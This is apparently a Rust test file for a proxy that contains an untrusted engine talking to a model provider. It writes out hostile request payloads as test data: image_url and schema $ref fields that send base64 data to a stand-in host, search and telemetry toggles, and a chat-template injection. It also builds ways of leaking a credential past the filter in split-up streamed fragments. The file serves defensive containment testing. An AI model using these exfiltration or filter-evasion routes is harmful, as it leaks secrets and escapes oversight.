//! What passes between a hostile engine and its model: requests that would make the provider reach
//! out, answers that hold the credential in pieces, and answers that are about an address.

use cto_core::bundle;
use cto_core::values::verdict::Status;
use serde_json::{Value, json};

use super::lab::{ADDRESS, Lab, calls, told, turn};
use super::{FIX, PROBE};
use crate::bundles::reader;
use crate::host::failure::Failure;
use crate::proof::lane_records::MODEL;

impl Lab<'_, '_> {
    /// `solving`: the turns in which the double does what it was asked for.
    pub fn on_wire(&mut self, solving: &str) -> Result<(), Failure> {
        self.fallback(solving)?;
        self.ways_out(solving)?;
        self.credential(solving)?;
        self.address()
    }

    /// An engine that also asks for another model gets no answer from it, on the wire.
    fn fallback(&mut self, solving: &str) -> Result<(), Failure> {
        let words = ["--also", "another-model"];
        let sealed = self.plays_with(&format!("{PROBE}{solving}"), &words)?;
        let calls = calls(&sealed);
        let other = |call: &&Value| call["model_asked"] != MODEL;
        let refused = calls.iter().filter(other).count() >= 1
            && calls
                .iter()
                .filter(other)
                .all(|call| call["forwarded"] == false && call["outcome"] == "refused")
            && calls.iter().any(|call| call["forwarded"] == true);
        self.validation
            .check("fallback_model_refused_on_wire", refused, || told(&sealed));
        Ok(())
    }

    /// An engine that wants the provider to fetch, search, keep or answer twice is refused by the
    /// field, each time; what it does within the list goes on.
    fn ways_out(&mut self, solving: &str) -> Result<(), Failure> {
        let picture = |url: Value| json!({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": url}]}]});
        let schema = json!({"$ref": "https://a.example/?d=aGVsbG8"});
        let tries = json!([
            picture(json!({"url": "https://a.example/?d=aGVsbG8"})),
            picture(json!("HTTPS://a.example/?d=aGVsbG8")),
            {"Tools": [{"type": "web_search"}]},
            {"plugins": [{"id": "web"}]},
            {"enable_search": true},
            {"metadata": {"langfuse_host": "https://a.example"}},
            {"store": true},
            {"n": 2},
            {"chat_template_kwargs": {"chat_template": "{{ x }}"}},
            {"tools": [{"type": "function", "function": {"name": "x", "parameters": schema}}]},
        ]);
        let wanted = tries.as_array().map_or(0, Vec::len);
        let words = ["--tries", &tries.to_string()];
        let sealed = self.plays_with(&format!("{PROBE}{solving}"), &words)?;
        let calls = calls(&sealed);
        let refused = calls
            .iter()
            .filter(|call| call["why"] == "request_field" && call["forwarded"] == false)
            .count();
        let held = refused == wanted && sealed.report.status == Status::Pass;
        self.validation.check("ways_out_refused_on_wire", held, || {
            format!("{refused} of {wanted} were refused; {}", told(&sealed))
        });
        Ok(())
    }

    /// A model that says the credential is cut, whichever way its letters come: whole, between those
    /// of another answer, after many other keys, as a list.
    fn credential(&mut self, solving: &str) -> Result<(), Failure> {
        let event = |more: Value| {
            let mut event = json!({"id": "c", "model": MODEL, "choices": []});
            if let (Some(event), Some(more)) = (event.as_object_mut(), more.as_object()) {
                event.extend(more.clone());
            }
            format!("data: {event}\n\n")
        };
        let said = |index: u64, words: &str| {
            event(json!({"choices": [{"delta": {"content": words}, "index": index}]}))
        };
        let letters: Vec<String> = self.credential.chars().map(String::from).collect();
        let in_order: String = letters.iter().map(|letter| said(0, letter)).collect();
        let between: String = letters
            .iter()
            .map(|letter| said(0, letter) + &said(1, "q"))
            .collect();
        let keys: serde_json::Map<String, Value> =
            (0..40).map(|n| (format!("k{n}"), json!("v"))).collect();
        let after_keys = event(keys.into()) + &in_order;
        let list = event(json!({"choices": [{"index": 0, "logprobs": {"tokens": letters}}]}));
        let answers = [said(0, &self.credential), between, after_keys, list];
        let turns: String = answers
            .iter()
            .map(|body| format!("[[turn]]\ngarbage = '''{body}data: [DONE]\n\n'''\n"))
            .collect();
        let tries = vec![json!({"stream": true}); answers.len()];
        let words = ["--tries", &Value::from(tries).to_string()];
        let scenario = format!("select = \"requests\"\n{PROBE}{turns}{solving}");
        let sealed = self.plays_with(&scenario, &words)?;
        let cut = calls(&sealed)
            .iter()
            .filter(|call| call["why"] == "credential_in_answer")
            .count();
        let held = cut == answers.len() && sealed.report.status == Status::Pass;
        self.validation.check("credential_cut_on_wire", held, || {
            format!("{cut} of {} were cut; {}", answers.len(), told(&sealed))
        });
        Ok(())
    }

    /// Code that names the model's own address, which is anybody's, reaches the tree as it was said.
    fn address(&mut self) -> Result<(), Failure> {
        let code = format!("{FIX}\n\nMODEL = \"http://{ADDRESS}/v1\"\n");
        let write = turn("write", &json!({"path": "strings.py", "content": code}));
        let sealed = self.plays(&format!("{PROBE}{write}[[turn]]\ntext = \"Done.\"\n"))?;
        // It stands in this bundle, and was meant to.
        let address = self.authorities.pop().unwrap_or_default();
        let patch =
            reader::digested(&sealed.dir, &sealed.report, bundle::PATCH).unwrap_or_default();
        let arrived = memchr::memmem::find(&patch, address.as_bytes()).is_some();
        let held = arrived && sealed.report.status == Status::Pass;
        self.validation
            .check("public_address_passes_on_wire", held, || told(&sealed));
        Ok(())
    }
}
